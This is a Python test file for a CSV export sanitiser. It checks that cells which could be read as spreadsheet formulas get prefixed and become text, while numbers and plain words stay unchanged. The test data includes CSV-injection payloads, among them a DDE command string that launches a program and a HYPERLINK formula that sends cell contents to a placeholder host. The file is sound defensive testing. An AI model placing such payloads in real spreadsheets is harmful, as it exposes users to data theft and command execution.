"""Sheets for other programs: no cell is a formula, numbers are numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from openrhip.collect.rules.sheets import BOM, lines, safe, sheet

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋cmd",
    "－2+3",
    "＠x",
    " =1+1",
    "　=1",
    '=HYPERLINK("http://x/?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "-",
    "-1e5",
    "+86",
)


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text(text):
    assert safe(text) == "'" + text


@pytest.mark.parametrize("text", ["-5", "-5.25", "0", "12", "甲=乙", "a@b", "1+1", "", "'x"])
def test_numbers_and_plain_words_stay(text):
    assert safe(text) == text


def test_values_stay_what_they_are():
    assert [safe(v) for v in (None, -3, Decimal("-0.10"), date(2020, 11, 5), 1.5)] == [
        "",
        "-3",
        "-0.10",
        "2020-11-05",
        "1.5",
    ]


@given(st.text())
def test_no_cell_begins_as_a_formula_unless_it_is_a_number(text):
    cell = safe(text)
    if cell.lstrip(" \u3000\xa0")[:1] in tuple("=+-@\t\r\n＝＋－＠") and cell:
        assert not cell.strip() or Decimal(cell) <= 0


@given(
    st.lists(
        st.tuples(
            st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")),
            st.integers(),
        ),
        max_size=20,
    )
)
def test_sheets_are_read_back_as_written(rows):
    text = sheet(("甲", "=乙"), rows)
    assert text.startswith(BOM)
    head, *body = csv.reader(io.StringIO(text.removeprefix(BOM), newline=""))
    assert head == ["甲", "'=乙"]
    assert body == [[safe(a), str(b)] for a, b in rows]


def test_long_sheets_come_in_pieces():
    pieces = list(lines(("n",), ((n,) for n in range(2500))))
    assert len(pieces) == 3
    assert len("".join(pieces).splitlines()) == 2501
